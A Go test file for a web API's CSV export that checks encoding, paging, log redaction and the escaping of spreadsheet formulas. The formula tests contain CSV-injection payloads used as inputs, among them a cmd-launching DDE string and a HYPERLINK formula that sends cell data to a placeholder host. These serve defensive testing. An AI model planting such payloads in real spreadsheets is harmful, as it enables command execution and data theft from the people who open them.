package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"slipway/internal/core/fault"
	"slipway/internal/platform/inprocess"
)

type tableView struct {
	ID      string               `json:"_id"`
	Amount  string               `json:"amount"`
	Quote   *quoteView           `json:"quote,omitempty"`
	Home    Nullable[streetView] `json:"home"`
	Tags    []string             `json:"tags"`
	Parts   []quoteView          `json:"parts"`
	Count   int                  `json:"count"`
	Hidden  bool                 `json:"isHidden"`
	Any     any                  `json:"any"`
	Made    time.Time            `json:"createdAt"`
	Percent Number               `json:"percent"`
	streetView
}

type quoteView struct {
	Rate string     `json:"rate"`
	Next *quoteView `json:"next,omitempty"`
}

type streetView struct {
	Line string `json:"line"`
}

const tableHeader = "_id,amount,quote.rate,quote.next,home.line,tags,parts,count,isHidden,any,createdAt,percent,line\r\n"

// shelf is an API with one list.
type shelf struct {
	handler http.Handler
	rows    []tableView
	cursors bool     // the list has them
	fails   int      // from this row on nothing can be read; 0: everything can
	pages   []Paging // that were read
}

func newShelf(t *testing.T) *shelf {
	t.Helper()

	s := &shelf{cursors: true}

	api := New(Config{Title: "Test", Version: "1", Authenticate: people, Log: slog.New(slog.DiscardHandler)})
	Register(api, Operation{Method: "GET", Path: "/shelf/me", ID: "listShelf", Access: Tenant}, s.list)
	s.handler = api.Handler()

	return s
}

func (s *shelf) list(_ context.Context, in *struct {
	Paging
	Name string `query:"name" maxLength:"5"`
},
) (*List[tableView], error) {
	s.pages = append(s.pages, in.Paging)

	from := in.Offset
	if in.Cursor != "" {
		w, err := in.Window()
		if err != nil {
			return nil, err
		}

		from, _ = strconv.Atoi(w.After)
	}

	to := min(from+in.Limit, len(s.rows))
	if s.fails > 0 && to > s.fails {
		return nil, errors.New("canary: the database is away")
	}

	next := ""
	if s.cursors && to < len(s.rows) {
		next = strconv.Itoa(to)
	}

	l := NewList(s.rows[from:to], int64(len(s.rows)), next)
	in.Limit = 1 // what a handler does with its input changes no later page

	return &l, nil
}

func (s *shelf) get(target string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(http.MethodGet, target, nil)
	r.Header.Set("Authorization", "Bearer alice")
	r.Header.Set("Accept", csvType)

	rec := httptest.NewRecorder()
	s.handler.ServeHTTP(rec, r)

	return rec
}

// The header depends on the type alone; a cell is what the JSON says, and what is not there is empty.
func TestListAsTable(t *testing.T) {
	s := newShelf(t)

	rec := s.get("/shelf/me")
	require.Equal(t, 200, rec.Code, rec.Body)
	require.Equal(t, "text/csv; charset=utf-8; header=present", rec.Header().Get("Content-Type"))
	require.Equal(t, `attachment; filename="shelf.csv"`, rec.Header().Get("Content-Disposition"))
	require.Equal(t, tableHeader, rec.Body.String(), "an empty list has its header")

	s.rows = []tableView{{
		ID:      "a",
		Amount:  "-1234.50",
		Quote:   &quoteView{Rate: "0.92", Next: &quoteView{Rate: "1"}},
		Home:    Nullable[streetView]{&streetView{"Zürich, \"Quai\" 1"}},
		Tags:    []string{"x", "y"},
		Parts:   []quoteView{{Rate: "2"}},
		Count:   -3,
		Any:     map[string]any{"b": 1},
		Made:    time.Date(2026, 11, 23, 9, 30, 0, 120e6, time.UTC),
		Percent: "0.25",
	}, {ID: "b", Percent: "1", streetView: streetView{"first\nsecond"}}}

	require.Equal(t, tableHeader+
		`a,-1234.50,0.92,"{""rate"":""1""}","Zürich, ""Quai"" 1",x y,"[{""rate"":""2""}]",-3,false,"{""b"":1}",`+
		"2026-11-23T09:30:00.120Z,0.25,\r\n"+
		"b,,,,,,,0,false,,0001-01-01T00:00:00.000Z,1,\"first\r\nsecond\"\r\n", s.get("/shelf/me").Body.String())
}

// Whoever writes a text that a spreadsheet would calculate sees it as text. Amounts stay numbers.
func TestTableHasNoFormulas(t *testing.T) {
	s := newShelf(t)

	for _, c := range []struct{ given, want string }{
		{"=1+1", "'=1+1"},
		{"+49 30 1234", "'+49 30 1234"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t'=1"},
		{"\r=1", "''=1"}, // encoding/csv drops a carriage return that stands alone
		{"-1.50", "-1.50"},
		{"-1.5e3", "'-1.5e3"},
		{"a=1", "a=1"},
		{" =1+1", "' =1+1"},
		{"\"=1+1", "'\"=1+1"},
		{"＝1+1", "'＝1+1"},
		{"Rent; paid, -10", "Rent; paid, -10"},
		{"", ""},
	} {
		s.rows = []tableView{{ID: c.given, Percent: "1", Tags: []string{c.given}, Quote: &quoteView{Rate: c.given}}}

		r := csv.NewReader(s.get("/shelf/me").Body)
		all, err := r.ReadAll()
		require.NoError(t, err, c.given)
		require.Len(t, all, 2)

		require.Equal(t, c.want, all[1][0])
		require.Equal(t, c.want, all[1][2])
		require.NotRegexp(t, `^[=+@\t\r]`, all[1][5])
	}
}

// Excel parts cells at semicolons where a comma is a decimal sign, and other programs at tabs: whatever a text makes of
// that, no part of it is a formula. JSON stays JSON.
func TestTableHasNoFormulasWhereASemicolonPartsCells(t *testing.T) {
	formula := regexp.MustCompile(`^[\s\p{Z}"]*[=+\-@＝＋－＠]`)

	s := newShelf(t)
	for _, text := range []string{
		`Rent;=HYPERLINK("http://x.example/?"&A1,"open")`,
		`x;"=1+1`,
		`x; +1`,
		"x\t-2+3",
		"x\n=1+1",
		"x;\u00a0@SUM(A1)",
		"x;＝1+1",
		";;=1",
		"=1;=2",
	} {
		s.rows = []tableView{{
			ID:      text,
			Percent: "1",
			Tags:    []string{"two words", text},
			Parts:   []quoteView{{Rate: text}},
			Any:     map[string]any{text: text},
		}}

		raw := s.get("/shelf/me").Body.String()
		all, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
		require.NoError(t, err, text)

		var parts []struct{ Rate string }

		require.NoError(t, json.Unmarshal([]byte(all[1][6]), &parts), all[1][6])
		require.Equal(t, text, parts[0].Rate, "a program reads what was written")

		_, rest, _ := strings.Cut(raw, "\r\n")
		for _, cell := range strings.FieldsFunc(rest, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
			require.NotRegexp(t, formula, cell, text)
		}
	}
}

// Every row comes once, whatever the list continues with, and a page is the largest there is.
func TestTableHasEveryPage(t *testing.T) {
	for name, cursors := range map[string]bool{"cursors": true, "offsets": false} {
		t.Run(name, func(t *testing.T) {
			s := newShelf(t)
			s.cursors = cursors

			for i := range 2*MaxLimit + 7 {
				s.rows = append(s.rows, tableView{ID: strconv.Itoa(i), Percent: "1"})
			}

			all, err := csv.NewReader(s.get("/shelf/me?name=x").Body).ReadAll()
			require.NoError(t, err)
			require.Len(t, all, len(s.rows)+1)

			for i, row := range all[1:] {
				require.Equal(t, strconv.Itoa(i), row[0])
			}

			require.Len(t, s.pages, 3)
			require.Equal(t, MaxLimit, s.pages[2].Limit)
		})
	}
}

func TestTableRefusesBeforeItBegins(t *testing.T) {
	s := newShelf(t)
	s.rows = []tableView{{ID: "a", Percent: "1"}}

	for _, name := range []string{"limit", "offset", "page", "cursor"} {
		rec := s.get("/shelf/me?" + name + "=1")
		require.Equal(t, 422, rec.Code, name)
		require.Contains(t, rec.Body.String(), string(fault.PagingConflict))
		require.Contains(t, rec.Body.String(), name)
	}

	require.Equal(t, 422, s.get("/shelf/me?name=longer").Code)
	require.Empty(t, s.pages)

	s.fails = 1
	s.rows = append(s.rows, s.rows...)
	require.Equal(t, 500, s.get("/shelf/me").Code)
}

// Nobody takes a part for everything: the connection ends without an end of the answer.
func TestTableThatCannotBeReadToItsEndIsBrokenOff(t *testing.T) {
	s := newShelf(t)
	s.fails = MaxLimit
	s.rows = make([]tableView, 2*MaxLimit)

	for i := range s.rows {
		s.rows[i].Percent = "1"
	}

	r := httptest.NewRequest(http.MethodGet, "http://shelf.example/shelf/me", nil)
	r.RequestURI = ""
	r.Header.Set("Authorization", "Bearer alice")
	r.Header.Set("Accept", csvType)

	_, err := inprocess.Transport(s.handler).RoundTrip(r)
	require.ErrorIs(t, err, io.ErrUnexpectedEOF)

	s.fails = 0
	_, err = inprocess.Transport(s.handler).RoundTrip(r)
	require.NoError(t, err, "its places are free again")
}

// Who asks for a content type by name gets it, everybody else JSON.
func TestPrefers(t *testing.T) {
	for header, want := range map[string]bool{
		"":                                      false,
		"*/*":                                   false,
		"application/json":                      false,
		"application/pdf":                       true,
		"Application/PDF;q=0.8":                 true,
		"application/pdf;q=0":                   false,
		"application/json, application/pdf":     false,
		"text/html, application/pdf, */*;q=0.1": true,
		"application/pdf; q=0.000":              false,
	} {
		t.Run(header, func(t *testing.T) {
			require.Equal(t, want, Prefers(header, "application/pdf"))
		})
	}
}

func ExamplePrefers() {
	fmt.Println(Prefers("text/csv", "text/csv"), Prefers("application/json, text/csv", "text/csv"))
	// Output: true false
}

// A link that opens a document by itself stands in no line of the log.
func TestLogsShowNoLink(t *testing.T) { // I-06
	var log bytes.Buffer

	api := New(Config{
		Title:   "Test",
		Version: "1",
		Log:     slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug})),
	})

	Register(api, Operation{Method: "GET", Path: "/downloads/{link}", ID: "download", Access: Public},
		func(_ context.Context, in *struct {
			Link string `path:"link" maxLength:"200"`
		},
		) (*Raw, error) {
			return nil, errors.New("the store is away")
		})

	const link = "doc_01kaj3w8r8q2m5x9v7t4b6c1dn.1795855800.k1.3q2-7wCANARYAAABBBBCCCCDDDDEEEEFFFFGGGG"

	rec := httptest.NewRecorder()
	api.Handler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/downloads/"+link, nil))
	require.Equal(t, 500, rec.Code)
	require.Contains(t, log.String(), "path=/downloads/[redacted]")
	require.NotContains(t, log.String(), "CANARY")
}

// 1. A text is no formula in any format. 2. With a decimal comma numbers have one, and texts keep their points.
func TestFormatsOfATable(t *testing.T) {
	for format, want := range map[TableFormat]string{
		PlainTable:      "'=1+1,12.50,-0.5,1.2.3\r\n",
		ExcelTable:      "\ufeff'=1+1,12.50,-0.5,1.2.3\r\n",
		ExcelCommaTable: "\ufeff'=1+1;12,50;-0,5;1.2.3\r\n",
	} {
		var b strings.Builder

		out := NewTable(&b, format)
		require.NoError(t, out.Row([]string{"=1+1", "12.50", "-0.5", "1.2.3"}))
		require.NoError(t, out.Flush())
		require.Equal(t, want, b.String(), format)
	}
}
